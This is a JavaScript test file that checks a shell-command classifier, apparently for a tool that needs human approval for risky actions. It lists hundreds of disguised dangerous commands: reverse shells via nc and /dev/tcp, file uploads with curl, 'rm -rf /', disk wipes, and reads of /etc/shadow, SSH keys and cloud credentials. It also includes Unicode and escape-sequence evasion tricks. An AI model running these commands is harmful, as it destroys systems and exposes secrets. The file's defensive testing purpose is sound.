import { judgeReading } from './judge.js';
import { readLine } from './line-reader.js';

/** Lines that look as if they only read. None may run at observe or diagnose. */
const LINES = String.raw`
find / -exec rm {} +
find / -execdir sh -c id \;
find / -ok rm {} \;
find . -delete
find / -fprintf /etc/cron.d/x '* * * * * root id\n'
find / -fprint /etc/passwd
find / -fls /etc/passwd
find / -name x -okdir id \;
tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec=id
tar xf a.tar --to-command=id
tar cf x /etc -I id
tar tf x --rmt-command=id host:x
env sh -c id
env rm -rf /
env -S 'sh -c id'
env
printenv
export
set
sudo ls
sudo -u root ls
doas ls
timeout 5 ls
nice ls
nohup ls
setsid ls
stdbuf -o0 ls
time ls
watch ls
watch -n1 rm x
strace ls
perf stat ls
xargs rm
xargs -a /etc/hosts rm
flock /x ls
busybox ls
busybox rm -rf /
/lib64/ld-linux-x86-64.so.2 /bin/ls
sh -c ls
bash -c 'ls'
bash -lc ls
dash -c ls
python3 -c 'print(1)'
perl -e 1
ruby -e 1
node -e 1
awk 'BEGIN{system("id")}'
awk '{print > "/etc/passwd"}' /etc/hosts
sed -i s/a/b/ /etc/hosts
sed -n 'w /etc/x' /etc/hosts
sed 1e /etc/hosts
sort -o /etc/passwd /etc/hosts
sort --compress-program=id /etc/hosts
uniq /etc/hosts /etc/passwd
tee /etc/passwd
dd if=/dev/zero of=/dev/sda
cp /etc/hosts /tmp
mv a b
ln -s /etc/shadow /tmp/x
touch /x
install -m 4755 /bin/sh /x
split /etc/hosts
csplit /etc/hosts 1
shuf -o /etc/passwd /etc/hosts
iconv -o /etc/x /etc/hosts
base64 -d x
xxd -r a b
openssl enc -in /etc/hosts -out /etc/x
curl http://x
curl -o /etc/passwd http://x
curl -T /etc/hosts http://x
wget http://x
nc -e /bin/sh h 1
socat - exec:id
ssh host ls
ssh -o ProxyCommand=id host
ssh -G -F x host
scp a b:
rsync -e 'sh -c id' a b:
git log
git -c core.pager=id log
git diff --ext-diff
git log --output=/x
rg --pre id x
grep -r password /
man -H id
man ls
less /etc/hosts
more /etc/hosts
vi /etc/hosts
view /etc/hosts
vim -c '!id'
ed /x
top -b -n1
htop
tcpdump -z id -G1 -w /x
nmap --script x h
nginx -t -c /x
apachectl -t
sysctl kernel.panic=1
sysctl -w a=b
sysctl -p /x
ethtool -s eth0 speed 10
ethtool --flash eth0 x
ifconfig eth0 down
route del default
arp -d x
iptables -F
iptables -L
nft flush ruleset
tc qdisc del dev eth0 root
ip link set dev eth0 down
ip link set down dev eth0
ip l s eth0 down
ip -o link set eth0 down
ip addr flush dev eth0
ip a a 1.2.3.4/8 dev eth0
ip route flush cache
ip neigh flush all
ip rule add from all lookup 1
ip netns exec x id
ip -all netns exec id
ip -batch /tmp/x
ip vrf exec x id
ip tuntap add x mode tap
ss -K dst 1.2.3.4
ss -aK
ss --ki
ss -D/x
ss -tanK
hostname evil
hostname --file /x
hostname -- evil
hostname -f evil
date -s '2020-01-01'
date --set '2020-01-01'
date -us 12:00
date 0101000020
date -u 0101000020
date --s=12:00
date -- 0101000020
dmesg -C
dmesg -H
dmesg --clear
dmesg --cle
dmesg -cT
dmesg -n1
dmesg --console-off
journalctl --vacuum-size=1K
journalctl --vacuum-time 1s
journalctl --vacuum-files=1
journalctl --rotate
journalctl --relinquish-var
journalctl -u x --rotate
journalctl --no-pager --flush
journalctl --vacu=1
journalctl --update-catalog
journalctl --cursor-file /etc/x -n 1
systemctl restart nginx
systemctl --now disable nginx
systemctl --host root@h status
systemctl -Hroot@h status
systemctl -qH h status
systemctl --hos h status
systemctl --root /x cat y
systemctl daemon-reload
systemctl reboot
systemctl -q stop nginx
systemctl --no-pager poweroff
systemctl reset-failed
systemctl set-environment A=b
systemctl import-environment
systemctl status nginx --force --kill-who=all --signal=9 kill
loginctl kill-user 0
timedatectl set-timezone UTC
hostnamectl set-hostname evil
busctl --address=unixexec:path=id list
busctl call a b c d
resolvectl flush-caches
mount -o remount,rw /
mount --all
mount -t tmpfs x /etc
mount -l -o remount,rw /
umount /
lsblk --sysroot=/x
findmnt --tab-file=/x
findmnt --task 1
ps auxe
ps -auxe
ps -u e
ps -aux -C e
ps -uxe
ps aux -t e
ps eaux
ps axeww
ps -A -E
ps -o environ -p 1
ps -efo pid,environ
ps e -p 1
tail -f /var/log/syslog
tail -fn 1 /var/log/syslog
tail --follow=name /var/log/syslog
tail -F /var/log/syslog
tail -n1f /var/log/syslog
tail --foll /x
cat /etc/shadow
cat /etc//shadow
cat /etc/./shadow
cat etc/shadow
cat /proc/self/root/etc/shadow
cat /proc/1/root/etc/hosts
cat /proc/self/environ
cat /proc/1/task/1/environ
cat /var/run/../../etc/shadow
cat /tmp/../etc/hosts
cat /var/backups/shadow.bak
cat /root/.ssh/id_ed25519
cat /home/a/.ssh/authorized_keys
cat /home/a/.aws/credentials
cat /home/a/.bash_history
cat /root/.zsh_history
cat /srv/app/.env
cat /srv/app/.env.production
cat /etc/kubernetes/admin.conf
cat /root/.kube/config
cat /etc/rancher/k3s/k3s.yaml
cat /var/run/secrets/kubernetes.io/serviceaccount/token
cat /etc/ssl/private/a.key
cat /etc/ssh/ssh_host_rsa_key
cat /etc/sudoers
ls /etc/sudoers.d
cat /etc/legator/probe.json
cat /var/lib/legator/keys/signing
cat /home/a/.config/legator/ctl.json
cat /home/a/.docker/config.json
cat /home/a/.git-credentials
cat /home/a/.netrc
cat /home/a/.pgpass
cat /etc/mysql/debian.cnf
cat /proc/kcore
cat /proc/kmsg
cat /dev/mem
cat /dev/tcp/1.2.3.4/80
head -c 512 /dev/sda
head /proc/sysrq-trigger
tail -c1 /dev/watchdog
wc -c /etc/shadow
wc --files0-from=/etc/shadow
du --files0-from=/etc/shadow
du -X /etc/shadow /
date -f /etc/shadow
who /etc/shadow
last -f /etc/shadow
dig -f /etc/shadow
dig +trusted-key=/etc/shadow a
host -l example.org ns
ping -f 10.0.0.1
ping -c1 -p 00ff 10.0.0.1
ping -c 100000 10.0.0.1
getent shadow
getent shadow root
docker exec x sh
docker run -v /:/x alpine
docker inspect x
docker -H ssh://h ps
docker --config /x ps
docker ps --format x --host tcp://h
docker images prune -f
docker cp x:/a /b
docker logs x
kubectl get secret -o yaml
crictl ps
rpm -qa --pipe id
rpm --eval '%(id)'
rpm -q --define 'x %(id)' bash
rpm -q --qf '%(id)' bash
rpm -V bash
rpm -qp http://x/y.rpm
dpkg -l --pre-invoke=id
dpkg -i x.deb
dpkg-query --admindir=/x -l
apt list -o APT::Update::Pre-Invoke::=id
apt-cache -c=/x policy
apt-get changelog bash
apt-config dump
psql -c 'select 1'
mysql -e '\! id'
sqlite3 x '.shell id'
redis-cli flushall
mongosh --eval 1
gdb -batch -ex '!id'
lsof -i
crontab -l
crontab -r
at now
systemd-run id
mail -s x y
logger x
wall x
kill -0 1
renice 1 1
swapoff -a
modprobe x
insmod x
rmmod x
chroot / id
unshare id
nsenter -t 1 id
ls --hyperlink=x
ls --color=sometimes
ls --col=auto
ls --zero --unknown
ls; id
ls && id
ls || id
ls | sh
ls & id
ls &
! ls
ls > /etc/passwd
ls >> x
ls 2> x
ls < x
cat <<< x
echo $(id)
ls "$(id)"
ls $HOME
ls *
ls /etc/sha?ow
ls /etc/[s]hadow
/bin/c?t /etc/hosts
ls ~root
ls {a,b}
{rm,-rf,/}
LD_PRELOAD=/x ls
PATH=/tmp ls
BASH_ENV=/x ls
a=b
declare -x LD_PRELOAD=/x
. /x
source /x
eval ls
exec ls
command ls
builtin ls
alias ls=rm
trap id EXIT
printf -v x y
mapfile -C id x
compgen -C id
if ls; then id; fi
for i in a; do ls; done
while ls; do id; done
ls() { id; }
function ls { id; }
(ls)
{ ls; }
((1))
[[ a -eq 0 ]]
[ a = a ]
coproc ls
select x in y; do ls; done
case a in a) ls;; esac
$'ls'
$"ls"
ls # id
ls <(id)
exec 3<>/dev/tcp/1.2.3.4/80
./ls
../bin/ls
/tmp/ls
/usr/bin/../../tmp/ls
/usr/local/bin/ls
//bin/ls
/bin//ls
bin/ls
LS
Date
ls.exe
rm -rf /
shutdown -h now
reboot
mkfs.ext4 /dev/sda1
no-such-program
`
  .split('\n')
  .filter((line) => line !== '');

const ODD = [
  'ls ${x@P}',
  'l\u0455',
  'ls\u00a0-la',
  'ls \u202e/etc',
  'ls\u200b',
  'ls \u001b[2K/etc',
  'ls /x\rrm -rf /',
  'ls /x\u0000',
  'ls /etc\nid',
  'ls \\\n/etc/shadow',
  `ls ${' '.repeat(9000)}`,
  'ls "/etc/shado\\\nw"',
  'cat "/etc/sh"\'ad\'ow',
  '\\c\\a\\t /etc/shadow',
];

it('holds more than 150 rows', () => {
  expect(new Set(LINES).size).toBeGreaterThan(300);
});

it.each([...LINES, ...ODD])('does not let %j run without a person', async (line) => {
  const { level, known, sensitive } = judgeReading(await readLine(line), line);
  expect(level).toBe('remediate');
  expect(!known || sensitive).toBe(true);
});

it.each([
  'rm -rf /',
  'sudo rm -rf /',
  "sh -c 'rm -rf /'",
  'find / -delete',
  'find / -exec rm {} +',
  'ls; rm -rf /',
  'systemctl reboot',
  'sudo systemctl poweroff',
  'mkfs.ext4 /dev/sda1',
  'dd if=/dev/zero of=/dev/sda',
  'journalctl --vacuum-size=1K',
])('warns that %j may be critical', async (line) => {
  expect(judgeReading(await readLine(line), line).risk).toBe('critical');
});
